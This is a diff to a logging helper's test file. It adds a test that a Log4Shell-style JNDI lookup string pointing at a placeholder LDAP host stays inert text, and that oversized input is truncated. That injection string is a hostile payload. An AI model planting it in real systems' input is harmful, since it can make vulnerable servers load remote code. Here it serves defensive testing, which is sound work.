@@ -26,6 +26,13 @@ test('a text of several lines becomes one, without control characters, and is cu
   expect(text.length).toBeLessThanOrEqual(510);
 });
 
+test('a lookup of a logging library stays text, and a megabyte is cut', () => {
+  const lookup = '${jndi:ldap://198.51.100.7/a}';
+  expect(logged({ text: lookup }).text).toBe(lookup);
+  vi.restoreAllMocks();
+  expect(logged({ text: 'x'.repeat(1024 * 1024) }).text?.length).toBeLessThanOrEqual(510);
+});
+
 test('the name and the line of code of an error are logged, not its message', () => {
   const facts = errorFacts(new TypeError('Ana\nMoreno'));
   expect(facts.name).toBe('TypeError');
